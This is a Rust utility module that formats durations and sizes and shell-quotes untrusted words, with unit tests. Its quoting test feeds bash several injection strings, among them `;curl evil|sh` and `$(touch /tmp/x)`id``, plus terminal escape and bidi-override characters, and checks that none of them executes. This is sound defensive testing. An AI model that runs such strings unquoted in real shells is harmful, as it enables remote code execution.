//! Sizes and times as people read them, and words as a shell does.

use std::fmt::Write as _;
use std::time::Duration;

use crate::untrusted::steers;

/// `0.3 s`, `12.0 s`, `3m 05s`, `2h 10m`, `5d 3h`.
pub fn human_duration(duration: Duration) -> String {
    let seconds = duration.as_secs();
    match seconds {
        0..60 => format!("{:.1} s", duration.as_secs_f64()),
        60..3600 => format!("{}m {:02}s", seconds / 60, seconds % 60),
        3600..86400 => format!("{}h {:02}m", seconds / 3600, seconds % 3600 / 60),
        _ => format!("{}d {}h", seconds / 86400, seconds % 86400 / 3600),
    }
}

/// How long ago something was, in whole seconds at the least: `3 s`, `3m 05s`, `2h 10m`, `5d 3h`.
pub fn human_age(age: Duration) -> String {
    if age.as_secs() < 60 {
        return format!("{} s", age.as_secs());
    }
    human_duration(age)
}

/// A word of somebody else's in a command that can be pasted: a shell takes it for this word and nothing
/// else. What would steer a terminal is written as bash and zsh read it in `$'…'`.
pub fn shell_quote(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+@:,".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    if !word.chars().any(steers) {
        return format!("'{}'", word.replace('\'', r"'\''"));
    }
    let mut quoted = String::from("$'");
    for c in word.chars() {
        match c {
            '\'' | '\\' => quoted.extend(['\\', c]),
            c if steers(c) => {
                let mut bytes = [0; 4];
                for byte in c.encode_utf8(&mut bytes).bytes() {
                    // Always three digits: what follows is no part of it.
                    let _ = write!(quoted, "\\{byte:03o}");
                }
            }
            c => quoted.push(c),
        }
    }
    quoted.push('\'');
    quoted
}

/// As [`shell_quote`], of a path, which is not taken for an option either.
pub fn shell_path(path: &str) -> String {
    if path.starts_with('-') {
        return shell_quote(&format!("./{path}"));
    }
    shell_quote(path)
}

/// `512 B`, `1.5 MB`: powers of 1000, as docker prints sizes.
pub fn human_size(bytes: u64) -> String {
    const UNITS: [&str; 5] = ["B", "kB", "MB", "GB", "TB"];
    #[expect(clippy::cast_precision_loss, reason = "three digits are shown")]
    let mut size = bytes as f64;
    let mut unit = 0;
    while size >= 999.5 && unit + 1 < UNITS.len() {
        size /= 1000.0;
        unit += 1;
    }
    match unit {
        0 => format!("{bytes} B"),
        _ if size < 99.95 => format!("{size:.1} {}", UNITS[unit]),
        _ => format!("{size:.0} {}", UNITS[unit]),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sizes_have_three_digits_at_most() {
        let cases = [
            (0, "0 B"),
            (999, "999 B"),
            (1000, "1.0 kB"),
            (1_536_000, "1.5 MB"),
            (999_600_000, "1.0 GB"),
            (123_000_000, "123 MB"),
        ];
        for (bytes, text) in cases {
            assert_eq!(human_size(bytes), text);
        }
    }

    /// What bash makes of a quoted word is that word, and nothing runs.
    #[test]
    fn a_shell_takes_a_quoted_word_for_what_it_is() {
        for word in [
            "plain-1.2/x",
            "",
            "a b",
            ";curl evil|sh",
            "$(touch /tmp/x)`id`",
            "it's \"quoted\"",
            "~root",
            "*",
            "!!",
            "a\nb\r\t\u{1b}[2J",
            "x\u{202e}gpj\u{9b}1",
            "\u{1}7'\\",
            "zürich 京",
        ] {
            let quoted = shell_quote(word);
            assert!(!quoted.chars().any(steers), "{quoted:?}");
            #[allow(clippy::disallowed_types, reason = "the shell itself is asked")]
            let said = std::process::Command::new("bash")
                .args(["-c", &format!("printf %s {quoted}")])
                .output()
                .expect("bash");
            assert_eq!(String::from_utf8_lossy(&said.stdout), word, "{quoted}");
            assert_eq!(said.stderr, b"");
        }
        assert_eq!(shell_quote("plain-1.2/x"), "plain-1.2/x");
        assert_eq!(shell_path("-rf"), "./-rf");
        assert_eq!(shell_path("a;b"), "'a;b'");
    }

    #[test]
    fn durations_lose_precision_as_they_grow() {
        let cases = [
            (300, "0.3 s"),
            (61_000, "1m 01s"),
            (3_660_000, "1h 01m"),
            (90_000_000, "1d 1h"),
        ];
        for (millis, text) in cases {
            assert_eq!(human_duration(Duration::from_millis(millis)), text);
        }
    }

    #[test]
    fn ages_are_whole_seconds() {
        for (millis, text) in [(999, "0 s"), (59_999, "59 s"), (61_000, "1m 01s")] {
            assert_eq!(human_age(Duration::from_millis(millis)), text);
        }
    }
}
